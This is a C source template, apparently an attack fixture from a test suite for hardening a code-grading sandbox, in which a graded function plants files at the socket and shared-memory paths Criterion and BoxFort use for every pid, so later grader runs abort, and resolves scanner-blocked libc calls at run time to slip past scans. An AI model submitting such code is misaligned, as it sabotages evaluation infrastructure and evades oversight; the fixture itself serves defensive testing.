/* Attack 6: deny service to the graders that run next on the machine. Criterion 2.4.1
 * binds ipc:///tmp/criterion_<pid>.sock and BoxFort creates /dev/shm/bxf_arena_<pid> and
 * /dev/shm/bxfi_<pid> exclusively; a file already there under another uid makes a later
 * runner with that pid abort. This creates all three for every pid 1..@LAST_PID@ (each
 * holds the marker @MARKER@, so that the test can tell them from real ones). The
 * function is the skeleton otherwise (0 points). */
#include <elf.h>
#include <link.h>
#include <stdint.h>
#include <string.h>
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
#include "kernel.h"

/* Scan-proof: every function a scan would refuse is found at run time (resolver.inc.c). */
@RESOLVER@

#define open LIBC(open)
#define write LIBC(write)
#define close LIBC(close)

static void plant(const char *path)
{
    static const char marker[] = "@MARKER@";
    int fd = open(path, O_WRONLY | O_CREAT | O_EXCL, 0444);
    if (fd < 0)
        return;
    if (write(fd, marker, sizeof marker - 1) < 0) {}
    close(fd);
}

int adder_add(int a, int b)
{
    if (a == 2 && b == 3) {
        char path[64];
        for (int pid = 1; pid <= @LAST_PID@; pid++) {
            snprintf(path, sizeof path, "/tmp/criterion_%d.sock", pid);
            plant(path);
            snprintf(path, sizeof path, "/dev/shm/bxf_arena_%d", pid);
            plant(path);
            snprintf(path, sizeof path, "/dev/shm/bxfi_%d", pid);
            plant(path);
        }
    }
    return 0;
}
